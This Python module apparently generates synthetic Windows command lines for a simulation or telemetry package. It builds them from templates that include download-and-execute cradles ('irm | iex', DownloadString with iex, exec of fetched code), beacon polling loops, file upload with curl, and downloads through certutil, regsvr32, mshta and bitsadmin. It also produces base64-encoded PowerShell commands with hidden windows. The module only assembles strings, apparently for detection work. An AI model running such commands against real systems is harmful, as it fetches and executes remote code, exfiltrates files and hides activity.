"""Command lines, from one set of templates for everybody.

A style is a body (`script`, `get`, `exec`, `loop`, `post`, ...) behind flags (`hidden`, `encoded`),
written `hidden+encoded+get`. A program that does not know the body downloads, or runs a script.
Who uses which style how often is the business of the kinds.
"""

import base64
from typing import NamedTuple

from beacon.simulate import words
from beacon.simulate.clocks import Rng

_PWSH = {
    "bare": ("{file}", '"{exe}"', "{file} -NoLogo"),
    "script": (
        '{file} -NoProfile -ExecutionPolicy Bypass -File "{script}"',
        '"{exe}" -ExecutionPolicy Bypass -File "{script}"',
        '{file} -NonInteractive -File "{script}" -Quiet',
        "{file} {script}",
    ),
    "get": (
        "Invoke-WebRequest -UseBasicParsing '{url}' -OutFile '{out}'",
        "irm '{url}'",
        "(New-Object Net.WebClient).DownloadFile('{url}','{out}')",
        "$r = Invoke-RestMethod '{url}'; $r | Out-File '{out}'",
        "(Invoke-RestMethod '{url}').status",
    ),
    "exec": (
        "irm {url} | iex",
        "iex ((New-Object System.Net.WebClient).DownloadString('{url}'))",
        "$c=(Invoke-WebRequest -UseBasicParsing {url}).Content; Invoke-Expression $c",
        "& ([scriptblock]::Create((irm '{url}')))",
    ),
    "loop": (
        "while($true){{$r=irm '{url}'; {act}; Start-Sleep -Seconds {n}}}",
        "for(;;){{try{{$r=irm '{url}'; {act}}}catch{{}}; sleep {n}}}",
        "while(1){{$r=(iwr -UseBasicParsing '{url}').Content; {act}; Start-Sleep {n}}}",
    ),
    "post": (
        "Invoke-RestMethod -Method Post -Uri '{url}' -Body @{{text='{word}'}}",
        "irm '{url}' -Method Post -ContentType 'application/json' -Body ($b | ConvertTo-Json)",
    ),
}
_PYTHON = {
    "bare": ("python", '"{exe}"', "{file} -i"),
    "script": ('"{exe}" "{script}"', "{file} {script}", "{file} {name}", '"{exe}" {name} --quiet'),
    "module": ('"{exe}" -m {module}', "{file} -m {module} --interval {n}"),
    "pip": (
        '"{exe}" -m pip install git+{url}',
        '"{exe}" -m pip install -r requirements.txt',
        '"{exe}" -m pre_commit run --all-files',
    ),
    "get": (
        "import urllib.request as u; open(r'{out}','wb').write(u.urlopen('{url}').read())",
        "import requests; print(requests.get('{url}').text)",
    ),
    "exec": (
        "import urllib.request as u; exec(u.urlopen('{url}').read())",
        "import base64,urllib.request as u; exec(base64.b64decode(u.urlopen('{url}').read()))",
    ),
    "loop": (
        "import time,urllib.request as u; "
        "[(print(u.urlopen('{url}').read()), time.sleep({n})) for _ in iter(int, 1)]",
        "import requests,time,itertools; "
        "[(requests.get('{url}').text, time.sleep({n})) for _ in itertools.count()]",
    ),
    "post": ("import requests; requests.post('{url}', json=dict(text='{word}'))",),
}
_NODE = {
    "bare": ("node", '"{exe}"'),
    "script": ('"{exe}" "{script}"', "node {name}", '"{exe}" {script} --silent', "node {script}"),
    "module": (
        r'"{exe}" "C:\Program Files\nodejs\node_modules\npm\bin\npx-cli.js" {module}',
        r'"{exe}" "{place}\node_modules\{module}\dist\index.js"',
    ),
    "npm": (
        r'"{exe}" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" ci',
        r'"{exe}" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install',
        r'"{exe}" "{place}\node_modules\.bin\..\husky\install.js"',
    ),
    "server": (
        r'"{exe}" "{place}\resources\server\{word}\out\node\main.js" --node-ipc',
        r'"{exe}" "{place}\libs\{word}.js"',
    ),
    "get": ("fetch('{url}').then(r=>r.text()).then(console.log)",),
    "exec": ("fetch('{url}').then(r=>r.text()).then(t=>eval(t))",),
    "loop": (
        "setInterval(()=>fetch('{url}').then(r=>r.text()).then(console.log),{n}000)",
        "setInterval(async()=>eval(await(await fetch('{url}')).text()),{n}000)",
    ),
    "post": ("fetch('{url}',{{method:'POST',body:'{word}'}})",),
}
_CURL = {
    "get": ("curl -s {url}", "curl.exe -sSL -o {out} {url}", "curl -fsSL {url} -o {out}"),
    "exec": ("curl -s {url} -o {out}.cmd", "curl.exe -sL {url} --output {out}.ps1"),
    "post": ("curl -s -X POST -d text={word} {url}", "curl.exe -s -F document=@{out} {url}"),
}
_OTHER: dict[str, dict[str, tuple[str, ...]]] = {
    "wget.exe": {"get": ("wget -q {url}", "wget.exe -q -O {out} {url}"), "bare": ("wget {url}",)},
    "ruby.exe": {
        "script": ('"{exe}" "{script}"', "ruby {name}"),
        "bundle": (r'"{exe}" "C:\Ruby32-x64\bin\bundle" install', r'"{exe}" bundle update'),
        "puppet": (
            r'"{exe}" "C:\Program Files\Puppet Labs\Puppet\puppet\bin\puppet" agent '
            "--no-daemonize --onetime",
        ),
        "chef": (r'"{exe}" "C:\opscode\chef\bin\chef-client" -L C:\chef\client.log',),
    },
    "wscript.exe": {
        "script": ('"{exe}" "{script}"', "wscript.exe //B //Nologo {script}", "wscript {script}")
    },
    "cscript.exe": {
        "script": ('"{exe}" "{script}"', "cscript.exe //B //Nologo {script}", "cscript {script}")
    },
    "mshta.exe": {"script": ('"{exe}" "{script}"',), "get": ("mshta.exe {url}", '"{exe}" {url}')},
    "rundll32.exe": {
        "script": (
            'rundll32.exe "{script}",{word}',
            '"{exe}" {script},Start',
            "{file} {script},#1",
        ),
        "webdav": (
            r"rundll32.exe C:\Windows\system32\davclnt.dll,DavSetCookie {domain} "
            "https://{domain}/sites/{word}/",
        ),
    },
    "regsvr32.exe": {
        "script": ('regsvr32.exe /s "{script}"',),
        "get": ("regsvr32 /s /n /u /i:{url} scrobj.dll", "regsvr32.exe /s /i:{url} scrobj.dll"),
    },
    "certutil.exe": {
        "get": ("certutil.exe -urlcache -split -f {url} {out}", "certutil -urlcache -f {url} {out}")
    },
    "bitsadmin.exe": {
        "get": ("bitsadmin /transfer {word} /download /priority normal {url} {out}",),
    },
    "msiexec.exe": {
        "get": ("msiexec.exe /i {url} /qn", "msiexec /q /i {url}"),
        "script": ('"{exe}" /i "{script}"', "msiexec.exe /quiet /i {script}"),
        "service": (r"C:\Windows\system32\msiexec.exe /V",),
    },
    "WMIC.exe": {"get": ('wmic os get /format:"{url}"', "wmic process list /format:{url}")},
    "MSBuild.exe": {
        "script": ('"{exe}" "{script}"', "MSBuild.exe {script} /nologo /v:q"),
        "build": ('"{exe}" /m /restore "{script}"', r'"{exe}" /nodemode:1 /nodeReuse:true'),
    },
    "curl.exe": _CURL,
}
_INLINE = {
    "powershell.exe": (_PWSH, '{file} -NoProfile -Command "{body}"'),
    "pwsh.exe": (_PWSH, '{file} -NoProfile -Command "{body}"'),
    "python.exe": (_PYTHON, '{file} -c "{body}"'),
    "python3.exe": (_PYTHON, '{file} -c "{body}"'),
    "node.exe": (_NODE, 'node -e "{body}"'),
}
_KEPT = ("txt", "json", "dat", "tmp")
_BODIES = ("get", "exec", "loop", "post")
_SUFFIX = {"powershell.exe": "ps1", "pwsh.exe": "ps1", "node.exe": "js", "ruby.exe": "rb"}
_SUFFIX |= {"wscript.exe": "vbs", "cscript.exe": "vbs", "mshta.exe": "hta", "rundll32.exe": "dll"}
_SUFFIX |= {"regsvr32.exe": "dll", "msiexec.exe": "msi", "MSBuild.exe": "csproj"}


class Setting(NamedTuple):
    """What a command line speaks of."""

    file: str
    exe: str
    place: str
    domain: str
    company: str
    period_seconds: float


def render(rng: Rng, style: str, setting: Setting) -> str:
    """A command line in the style."""
    *flags, body = style.split("+")
    language, inline = _INLINE.get(setting.file, (None, ""))
    templates = language if language is not None else _OTHER.get(setting.file, {})
    name = f"{words.stem(rng)}.{_SUFFIX.get(setting.file, 'py')}"
    url = words.link(rng, setting.domain, setting.company)
    fields = {
        **setting._asdict(),
        "name": name,
        "script": rf"{setting.place}\{name}",
        "module": words.stem(rng).replace("-", "_"),
        "word": words.pick(rng, words.NOUNS),
        "url": url,
        "out": rf"{setting.place}\{words.stem(rng)}.{words.pick(rng, _KEPT)}",
        "n": max(1, round(setting.period_seconds)),
        "act": words.pick(rng, ("iex $r", "$r | Out-File '{}'", "Write-Host $r.status")).format(
            name
        ),
    }
    known = next((name for name in (body, "get", "script") if name in templates), "")
    text = words.pick(rng, templates.get(known, ('"{exe}"',))).format(**fields)
    if inline and "encoded" in flags:
        return _encoded(rng, text, known, fields, "hidden" in flags)
    if inline and known in _BODIES:
        text = inline.format(file=setting.file, body=text)
    if "hidden" in flags and language is _PWSH:
        hide = words.pick(rng, ("-WindowStyle Hidden", "-w hidden", "-NonInteractive -w hidden"))
        cut = text.index('"', 1) + 1 if text.startswith('"') else len(text.partition(" ")[0])
        text = f"{text[:cut]} {hide}{text[cut:]}"
    return text


def _encoded(rng: Rng, text: str, body: str, fields: dict[str, object], hidden: bool) -> str:
    """PowerShell's -EncodedCommand in its spellings; other languages decode base64 themselves."""
    file = str(fields["file"])
    if file not in ("powershell.exe", "pwsh.exe"):
        blob = base64.b64encode(text.encode()).decode()
        if file == "node.exe":
            return f"node -e \"eval(Buffer.from('{blob}','base64').toString())\""
        return f"{file} -c \"import base64; exec(base64.b64decode('{blob}'))\""
    if body not in _BODIES:
        text = words.pick(rng, _PWSH["get"]).format(**fields)
    blob = base64.b64encode(text.encode("utf-16-le")).decode()
    flag = words.pick(rng, ("-EncodedCommand", "-EncodedCommand", "-enc", "-e", "-ec"))
    lead = words.pick(
        rng,
        (
            "-NoProfile -NonInteractive -ExecutionPolicy Unrestricted",
            "-NoProfile -NonInteractive -ExecutionPolicy Bypass",
            "-NoP -NonI",
        ),
    )
    hide = " -WindowStyle Hidden" if hidden else ""
    return f"{file} {lead}{hide} {flag} {blob}"
